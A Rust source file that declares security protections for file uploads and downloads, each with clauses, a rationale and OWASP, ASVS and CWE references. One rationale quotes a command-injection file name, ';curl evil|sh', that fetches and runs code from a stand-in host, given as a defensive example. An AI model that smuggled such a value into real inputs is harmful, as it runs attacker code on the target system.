//! Files: how they come in, and how they go out.

#![expect(missing_docs, reason = "what a protection states, and why, is in its fields")]

use super::{Family, Protection, clause};

pub static INPUT_COMMAND_TEMPLATE: Protection = Protection {
    id: "input-command-template",
    family: Family::Input,
    clauses: &[
        clause("What people write is never a command", &["command"]),
        clause("nor a template", &["template"]),
        clause("a recipient, a header field or a line of its own in a mail", &["smtp"]),
        clause("or a look-up", &["log4"]),
    ],
    why: "A file called `;curl evil|sh` is a command the moment somebody pastes it into one.",
    owasp: &["API8:2023"],
    asvs: &["1.2.5", "1.3.2", "1.3.7", "1.3.11", "15.1.5"],
    cwe: &[78, 94, 1336, 93],
    references: &["OS Command Injection CS"],
};

pub static UPLOAD_TYPE: Protection = Protection {
    id: "upload-type",
    family: Family::Input,
    clauses: &[
        clause(
            "Files are PDF, PNG, JPEG or DICOM, and extension, declared type and content agree",
            &["mismatch"],
        ),
        clause("names on disk are random, nothing of the sender's", &["path"]),
        clause("one name, in one form", &["header"]),
        clause("nothing is served from disk directly", &["direct"]),
    ],
    why: "A page that calls itself an X-ray runs in the browser of whoever opens it.",
    owasp: &["API8:2023"],
    asvs: &["5.1.1", "5.2.2", "5.3.1", "5.3.2", "5.4.1"],
    cwe: &[434, 22, 73],
    references: &["File Upload CS", "RFC 8187 §3.2", "PNG §5", "ISO 32000-1 §7.5", "DICOM PS3.10 §7.1"],
};

pub static UPLOAD_RESOURCE_LIMITS: Protection = Protection {
    id: "upload-resource-limits",
    family: Family::Input,
    clauses: &[
        clause("A file is at most 10 MiB, refused early", &["size"]),
        clause("a member adds 20 an hour", &["pace"]),
        clause("members and organizations have quotas, which no race overshoots", &["quota"]),
        clause("images have at most 40 megapixels", &["bomb"]),
        clause("what is broken off leaves nothing", &["temp"]),
        clause("files are streamed, not held in memory", &["memory"]),
    ],
    why: "A disk that one client can fill is a service that one client can stop.",
    owasp: &["API4:2023"],
    asvs: &["5.2.1", "5.2.3", "5.2.4", "5.2.5", "5.2.6", "5.3.3"],
    cwe: &[400, 409, 770],
    references: &["File Upload CS \"Upload and Download Limits\""],
};

pub static UPLOAD_MALWARE: Protection = Protection {
    id: "upload-malware",
    family: Family::Input,
    clauses: &[
        clause(
            "A file can't be fetched before a scanner called it clean, also while the scanner is down",
            &["early", "scanner-down"],
        ),
        clause("an infected one is removed", &["eicar"]),
        clause(
            "without a scanner nothing is taken, unless the operator wrote that none is wanted",
            &["unset"],
        ),
        clause("metadata of JPEG and PNG is stripped, but for which way up they are", &["exif"]),
    ],
    why: "A clinic that hands on whatever it is given hands on the worm as well, and the photographer's address.",
    owasp: &["API8:2023"],
    asvs: &["5.4.3", "14.2.8", "16.5.2"],
    cwe: &[434, 212, 636],
    references: &["File Upload CS", "clamd(8) INSTREAM"],
};

pub static OUTPUT_DOWNLOAD_SAFE: Protection = Protection {
    id: "output-download-safe",
    family: Family::Output,
    clauses: &[
        clause(
            "Downloads are attachments in their own media type, with nosniff and a policy that runs nothing",
            &["inline"],
        ),
        clause("their names are one quoted parameter", &["name"]),
        clause("CSV cells are quoted, and no cell is a formula", &["formula"]),
        clause("ranges are not served", &["range"]),
    ],
    why: "What a browser shows in the service's own origin acts in it.",
    owasp: &["API8:2023"],
    asvs: &["3.2.1", "5.4.1", "5.4.2", "1.2.10"],
    cwe: &[79, 113, 1236],
    references: &["RFC 6266 §4, §5", "RFC 8187 §3.2", "RFC 9110 §14.2", "RFC 4180 §2", "File Upload CS"],
};
